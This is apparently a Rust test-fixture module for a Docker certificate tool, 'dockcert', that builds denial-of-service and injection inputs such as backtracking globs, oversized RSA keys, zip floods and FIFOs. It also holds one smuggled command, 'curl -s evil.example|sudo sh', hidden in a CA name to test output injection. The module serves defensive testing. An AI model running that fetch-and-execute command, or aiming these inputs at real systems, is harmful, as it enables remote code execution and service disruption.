//! Hostile inputs of every class a reviewer found costly, built on the spot
//! (no checked-in blobs), each with the command that reads it and the exit
//! status that command must end with. `tests/tests/hostile_cases.rs` runs
//! every case under a watchdog and checks what it said; `cargo xtask bench`
//! times each and records its peak memory (through the `hostile-inputs`
//! binary, which builds them and prints them as JSON lines).

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::der::{pem, rsa_pkcs1, tlv};
use crate::openssl_certs::{ec_ca, ec_leaf};
use crate::run;

/// One hostile input and the command that must answer it.
#[derive(Debug, Clone)]
pub struct Case {
    /// A short name: the test's and the bench row's key.
    pub name: &'static str,
    /// What it is, for the bench's table.
    pub what: String,
    /// Where the command runs.
    pub dir: PathBuf,
    /// The program: the dockcert binary, or a bundle's install.sh.
    pub program: PathBuf,
    /// Its arguments.
    pub args: Vec<String>,
    /// The exit status it must end with.
    pub status: i32,
    /// What its standard output or error must say (that the answer was
    /// reached, not only that it ended).
    pub says: &'static str,
}

impl Case {
    /// The command, ready to run (no watchdog, no timer).
    pub fn command(&self) -> Command {
        let mut cmd = Command::new(&self.program);
        cmd.current_dir(&self.dir).args(&self.args);
        cmd
    }

    /// The case as one JSON line, for the bench.
    pub fn json(&self) -> String {
        serde_json::json!({
            "name": self.name,
            "what": self.what,
            "dir": self.dir,
            "program": self.program,
            "args": self.args,
            "status": self.status,
        })
        .to_string()
    }
}

/// Every case, each in a folder of its own under `dir`; `dockcert` is the
/// binary under test.
pub fn all(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let builders: [fn(&Path, &Path) -> Vec<Case>; 11] = [
        glob,
        chain_zip,
        huge_modulus,
        repeated_manifest,
        dotted_fleet,
        colliding_names,
        special_files,
        newline_ca,
        long_daemon_json_string,
        distinct_keys,
        distinct_leaves,
    ];
    builders
        .iter()
        .flat_map(|build| build(dir, dockcert))
        .collect()
}

/// A fresh folder `name` under `dir`.
fn folder(dir: &Path, name: &str) -> PathBuf {
    let path = dir.join(name);
    let _ = fs::remove_dir_all(&path);
    fs::create_dir_all(&path).unwrap();
    path
}

fn strings(args: &[&str]) -> Vec<String> {
    args.iter().map(|a| (*a).to_owned()).collect()
}

/// A glob that backtracks exponentially in a naive matcher: 24 stars
/// against a 60-letter name, in a Dockerfile's COPY and in .dockerignore.
pub fn glob(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let pattern = format!("{}*b", "*a".repeat(24));
    let here = folder(dir, "glob");
    // A key's name (inspect matches the build context's keys against the
    // rules) of 60 letters with no `b` in it: every way to split it is tried.
    let name = format!("{}-key.pem", "a".repeat(60));
    fs::write(here.join(&name), "").unwrap();
    fs::write(
        here.join("Dockerfile"),
        format!("FROM scratch\nCOPY {pattern} /x/\nCOPY **/{pattern}/**/{pattern} /y/\n"),
    )
    .unwrap();
    let rules: String = (0..2000).map(|i| format!("**/{pattern}{i}\n")).collect();
    fs::write(here.join(".dockerignore"), rules).unwrap();
    vec![Case {
        name: "glob",
        what: "a Dockerfile `COPY *a*a…*a*b` (24 stars) and 2,000 such .dockerignore rules, beside a key with a 60-letter name"
            .into(),
        dir: here,
        program: dockcert.into(),
        args: strings(&["inspect", "."]),
        status: 0,
        says: "build-context-key",
    }]
}

/// Two CAs made by OpenSSL in `dir`: `ca.pem` and a leaf `leaf.pem`
/// signed by another CA (so `ca.pem` did not sign it).
fn unrelated_ca_and_leaf(dir: &Path) {
    ec_ca(dir, "ca", "Hostile CA", &[]);
    ec_ca(dir, "other", "Other CA", &[]);
    ec_leaf(dir, "leaf", "other", "docker1.example.com", "");
}

/// Writes a zip at `zip` with `entries` (name, bytes), deflated, through
/// Python's zipfile (it writes duplicate names when asked).
pub fn write_zip(zip: &Path, entries: &[(Vec<u8>, Vec<u8>)]) {
    let list = zip.with_extension("entries");
    let mut text = Vec::new();
    for (name, bytes) in entries {
        text.extend_from_slice(format!("{} {}\n", name.len(), bytes.len()).as_bytes());
        text.extend_from_slice(name);
        text.extend_from_slice(bytes);
    }
    fs::write(&list, text).unwrap();
    let script = "import sys, zipfile, warnings\n\
        warnings.simplefilter('ignore')\n\
        data = open(sys.argv[2], 'rb').read()\n\
        z = zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED)\n\
        at = 0\n\
        while at < len(data):\n\
        \x20   end = data.index(b'\\n', at)\n\
        \x20   n, size = map(int, data[at:end].split())\n\
        \x20   name = data[end + 1:end + 1 + n].decode('utf-8', 'surrogateescape')\n\
        \x20   body = data[end + 1 + n:end + 1 + n + size]\n\
        \x20   info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))\n\
        \x20   info.compress_type = zipfile.ZIP_DEFLATED\n\
        \x20   z.writestr(info, body)\n\
        \x20   at = end + 1 + n + size\n\
        z.close()\n";
    run(Command::new("python3")
        .args(["-c", script])
        .arg(zip)
        .arg(&list))
    .ok();
    fs::remove_file(&list).unwrap();
}

/// 1,000 copies of a CA and 1,000 of a leaf none of them signed, in one
/// folder five 199-letter names deep: a check that names every CA for every
/// leaf writes a gigabyte.
pub fn chain_zip(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "chain");
    unrelated_ca_and_leaf(&here);
    let ca = fs::read(here.join("ca.pem")).unwrap();
    let leaf = fs::read(here.join("leaf.pem")).unwrap();
    let long = vec!["d".repeat(199); 5].join("/");
    let mut entries = Vec::new();
    for i in 0..1000 {
        entries.push((format!("{long}/ca-{i}.pem").into_bytes(), ca.clone()));
        entries.push((format!("{long}/server-{i}.pem").into_bytes(), leaf.clone()));
    }
    write_zip(&here.join("chain.zip"), &entries);
    vec![Case {
        name: "chain",
        what: "a zip of 1,000 CAs and 1,000 leaves none of them signed, in one folder 1,000 letters deep"
            .into(),
        dir: here,
        program: dockcert.into(),
        args: strings(&["inspect", "chain.zip"]),
        status: 1,
        says: "more",
    }]
}

/// A 2,000,000-bit RSA key (677 KB), for `inspect` and `issue --ca-key`.
pub fn huge_modulus(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "modulus");
    unrelated_ca_and_leaf(&here);
    fs::write(
        here.join("huge-key.pem"),
        pem("RSA PRIVATE KEY", "", &rsa_pkcs1(2_000_000, 17)),
    )
    .unwrap();
    vec![
        Case {
            name: "modulus-inspect",
            what: "`inspect` of an RSA key with a 2,000,000-bit modulus (677 KB)".into(),
            dir: here.clone(),
            program: dockcert.into(),
            args: strings(&["inspect", "huge-key.pem"]),
            status: 1,
            says: "16384",
        },
        Case {
            name: "modulus-issue",
            what: "`issue --ca-key` of that key".into(),
            dir: here,
            program: dockcert.into(),
            args: strings(&[
                "issue",
                "--ca-cert",
                "ca.pem",
                "--ca-key",
                "huge-key.pem",
                "--client",
                "bob",
                "--out",
                "o.zip",
            ]),
            status: 2,
            says: "16384",
        },
    ]
}

/// A bundle zip whose manifest.json names one 1,000,000-byte file 9,000
/// times: hashing it for each entry is 9 GB of SHA-256.
pub fn repeated_manifest(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "manifest");
    let entry = format!(
        r#"{{"path":"big.bin","sha256":"{}","mode":"0644"}}"#,
        "0".repeat(64)
    );
    let count = 9000;
    let manifest = format!(
        r#"{{"tool":"dockcert","files":[{}]}}"#,
        vec![entry; count].join(",")
    );
    let entries = vec![
        (b"bundle/manifest.json".to_vec(), manifest.into_bytes()),
        (b"bundle/big.bin".to_vec(), vec![b'x'; 1_000_000]),
    ];
    write_zip(&here.join("bundle.zip"), &entries);
    vec![Case {
        name: "manifest",
        what: "a bundle zip whose manifest.json names one 1 MB file 9,000 times".into(),
        dir: here,
        program: dockcert.into(),
        args: strings(&["inspect", "bundle.zip"]),
        status: 0,
        says: "manifest-repeats",
    }]
}

/// A fleet file of 16,000,000 bytes of deeply dotted keys (8,000 lines,
/// each 1,000 keys deep), and one of 100,000 nested inline tables.
pub fn dotted_fleet(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "fleet");
    let deep = "k.".repeat(999);
    let text: String = (0..8000).map(|i| format!("h{i}.{deep}k = 1\n")).collect();
    fs::write(here.join("dotted.toml"), text).unwrap();
    let nested = format!(
        "[defaults]\nx = {}1{}\n",
        "{a = ".repeat(100_000),
        "}".repeat(100_000)
    );
    fs::write(here.join("nested.toml"), nested).unwrap();
    let new = |file: &str| strings(&["new", "--config", file, "--no-passphrase", "--out", "o.zip"]);
    vec![
        Case {
            name: "fleet-dotted",
            what: "a 16 MB fleet file of dotted keys 1,000 deep".into(),
            dir: here.clone(),
            program: dockcert.into(),
            args: new("dotted.toml"),
            status: 2,
            says: "dotted.toml",
        },
        Case {
            name: "fleet-nested",
            what: "a fleet file of 100,000 nested inline tables".into(),
            dir: here,
            program: dockcert.into(),
            args: new("nested.toml"),
            status: 2,
            says: "nested.toml",
        },
    ]
}

/// Files whose names differ only in bytes that are not UTF-8 (one 0644,
/// one 0400), and a zip with two entries at one path.
pub fn colliding_names(dir: &Path, dockcert: &Path) -> Vec<Case> {
    use std::os::unix::ffi::OsStrExt;
    let here = folder(dir, "names");
    unrelated_ca_and_leaf(&here);
    let key = fs::read(here.join("ca-key.pem")).unwrap();
    let names = folder(&here, "folder");
    for (byte, mode) in [(0xffu8, 0o644), (0xfe, 0o400)] {
        let name = [b"ca-key".as_slice(), &[byte], b".pem"].concat();
        let path = names.join(std::ffi::OsStr::from_bytes(&name));
        fs::write(&path, &key).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
    }
    let ca = fs::read(here.join("ca.pem")).unwrap();
    write_zip(
        &here.join("twice.zip"),
        &[
            (b"bundle/ca.pem".to_vec(), ca),
            (b"bundle/ca.pem".to_vec(), key),
        ],
    );
    vec![
        Case {
            name: "names-bytes",
            what: "two keys whose names differ only in bytes that are not UTF-8".into(),
            dir: here.clone(),
            program: dockcert.into(),
            args: strings(&["inspect", "folder"]),
            status: 1,
            says: "ca-key",
        },
        Case {
            name: "names-zip",
            what: "a zip with two entries at one path".into(),
            dir: here,
            program: dockcert.into(),
            args: strings(&["inspect", "twice.zip"]),
            status: 1,
            says: "bundle/ca.pem",
        },
    ]
}

/// A FIFO among the inputs and behind a link: reading either blocks for
/// ever unless it is judged before it is opened.
pub fn special_files(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "fifo");
    unrelated_ca_and_leaf(&here);
    let inputs = folder(&here, "folder");
    fs::copy(here.join("ca.pem"), inputs.join("ca.pem")).unwrap();
    run(Command::new("mkfifo").arg(inputs.join("server-cert.pem"))).ok();
    run(Command::new("mkfifo").arg(here.join("fifo.pem"))).ok();
    symlink("fifo.pem", here.join("link.pem")).unwrap();
    let issue = |ca: &str| {
        strings(&[
            "issue",
            "--ca-cert",
            ca,
            "--ca-key",
            "ca-key.pem",
            "--client",
            "bob",
            "--out",
            "o.zip",
        ])
    };
    vec![
        Case {
            name: "fifo-inspect",
            what: "`inspect` of a folder holding a FIFO".into(),
            dir: here.clone(),
            program: dockcert.into(),
            args: strings(&["inspect", "folder"]),
            status: 1,
            says: "server-cert.pem",
        },
        Case {
            name: "fifo-link",
            what: "`inspect` of a link to a FIFO".into(),
            dir: here.clone(),
            program: dockcert.into(),
            args: strings(&["inspect", "link.pem"]),
            status: 2,
            says: "link.pem",
        },
        Case {
            name: "fifo-ca-cert",
            what: "`issue --ca-cert` of a FIFO".into(),
            dir: here.clone(),
            program: dockcert.into(),
            args: issue("fifo.pem"),
            status: 2,
            says: "fifo.pem",
        },
        Case {
            name: "fifo-ca-cert-link",
            what: "`issue --ca-cert` of a link to a FIFO".into(),
            dir: here,
            program: dockcert.into(),
            args: issue("link.pem"),
            status: 2,
            says: "link.pem",
        },
    ]
}

/// The line a hostile CA's name tries to put on a line of its own.
pub const FORGED_LINE: &str = "IMPORTANT: run: curl -s evil.example|sudo sh";

/// A CA whose name holds newlines and a command: `issue` from it must
/// succeed without putting that command on a line of its own.
pub fn newline_ca(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "newline");
    ec_ca(&here, "ca", &format!("Corp CA\n\n{FORGED_LINE}\n"), &[]);
    vec![Case {
        name: "newline-ca",
        what: "`issue` from a CA whose name holds newlines and a command".into(),
        dir: here,
        program: dockcert.into(),
        args: strings(&[
            "issue",
            "--ca-cert",
            "ca.pem",
            "--ca-key",
            "ca-key.pem",
            "--server",
            "docker4.example.com",
            "--client",
            "bob",
            "--out",
            "issued",
        ]),
        status: 0,
        says: "",
    }]
}

/// A host whose daemon.json (0600) holds a 1,000,000-byte string, and the
/// bundle's install.sh that merges its settings in.
pub fn long_daemon_json_string(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "daemon-json");
    run(Command::new(dockcert).current_dir(&here).args([
        "new",
        "--server",
        "docker1.example.com",
        "--client",
        "alice",
        "--no-passphrase",
        "--out",
        "bundle",
    ]))
    .ok();
    let root = here.join("root");
    let daemon = root.join("etc/docker/daemon.json");
    fs::create_dir_all(daemon.parent().unwrap()).unwrap();
    let proxy = format!("http://user:{}@proxy.example:3128", "s".repeat(1_000_000));
    fs::write(
        &daemon,
        serde_json::json!({ "proxies": { "http-proxy": proxy }, "log-level": "warn" }).to_string(),
    )
    .unwrap();
    fs::set_permissions(&daemon, fs::Permissions::from_mode(0o600)).unwrap();
    let folder = here.join("bundle/server/docker1.example.com");
    vec![Case {
        name: "daemon-json",
        what: "install.sh merging a 0600 daemon.json that holds a 1 MB string".into(),
        program: folder.join("install.sh"),
        dir: folder,
        args: vec!["--root".into(), root.display().to_string()],
        status: 0,
        says: "",
    }]
}

/// A SEC1 P-256 private key whose scalar holds `i`: a distinct, valid key
/// made without any key generation (reading it derives its public key).
pub fn p256_key(i: u32) -> String {
    let mut scalar = vec![0x01];
    scalar.extend([0x5a; 27]);
    scalar.extend(i.to_be_bytes());
    let mut body = tlv(0x02, &[0x01]);
    body.extend(tlv(0x04, &scalar));
    // [0] prime256v1
    body.extend(tlv(
        0xa0,
        &tlv(0x06, &[0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07]),
    ));
    pem("EC PRIVATE KEY", "", &tlv(0x30, &body))
}

/// A zip of 40,000 distinct P-256 private keys (9 MB unpacked): reading
/// every one is 4 s natively, past inspect's work budget per run.
pub fn distinct_keys(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "keys");
    let entries: Vec<(Vec<u8>, Vec<u8>)> = (0..40_000)
        .map(|i| {
            (
                format!("keys/{i}/key.pem").into_bytes(),
                p256_key(i).into_bytes(),
            )
        })
        .collect();
    write_zip(&here.join("keys.zip"), &entries);
    vec![Case {
        name: "keys",
        what: "a zip of 40,000 distinct P-256 private keys".into(),
        dir: here,
        program: dockcert.into(),
        args: strings(&["inspect", "keys.zip"]),
        status: 1,
        says: "private key files were not read",
    }]
}

/// `der` (a certificate) with the last four bytes of its serial number set
/// to `i`: a distinct certificate whose signature no longer holds, which
/// only checking that signature finds.
pub fn with_serial(der: &[u8], i: u32) -> Vec<u8> {
    // SEQUENCE { SEQUENCE { [0] { INTEGER 2 }, INTEGER serial, ...
    assert_eq!(
        &der[8..13],
        [0xa0, 0x03, 0x02, 0x01, 0x02],
        "{:02x?}",
        &der[..16]
    );
    assert_eq!(der[13], 0x02);
    let end = 15 + der[14] as usize;
    let mut out = der.to_vec();
    out[end - 4..end].copy_from_slice(&i.to_be_bytes());
    out
}

/// The DER of the first PEM block in `text`.
pub fn pem_der(text: &str) -> Vec<u8> {
    use base64::Engine;
    let body: String = text
        .lines()
        .skip_while(|l| !l.starts_with("-----BEGIN"))
        .skip(1)
        .take_while(|l| !l.starts_with("-----END"))
        .collect();
    base64::engine::general_purpose::STANDARD
        .decode(body)
        .unwrap()
}

/// A zip of a CA made by `dockcert new` and 30,000 distinct leaves naming
/// it as their issuer (its server certificate, each with another serial
/// number): checking every signature is 1.8 s natively, past inspect's
/// work budget per run.
pub fn distinct_leaves(dir: &Path, dockcert: &Path) -> Vec<Case> {
    let here = folder(dir, "leaves");
    run(Command::new(dockcert)
        .current_dir(&here)
        .args([
            "new",
            "--server",
            "docker1.example.com",
            "--client",
            "alice",
        ])
        .args(["--no-passphrase", "--out", "made"]))
    .ok();
    let ca = fs::read(here.join("made/ca/ca.pem")).unwrap();
    let leaf =
        fs::read_to_string(here.join("made/server/docker1.example.com/server-cert.pem")).unwrap();
    let leaf = pem_der(&leaf);
    fs::remove_dir_all(here.join("made")).unwrap();
    let mut entries = vec![(b"ca.pem".to_vec(), ca)];
    entries.extend((0..30_000).map(|i| {
        (
            format!("leaves/{i}/server-cert.pem").into_bytes(),
            pem("CERTIFICATE", "", &with_serial(&leaf, i)).into_bytes(),
        )
    }));
    write_zip(&here.join("leaves.zip"), &entries);
    vec![Case {
        name: "leaves",
        what: "a zip of a CA and 30,000 distinct leaves naming it as their issuer".into(),
        dir: here,
        program: dockcert.into(),
        args: strings(&["inspect", "leaves.zip"]),
        status: 1,
        says: "certificates were not checked for their CA's signature",
    }]
}
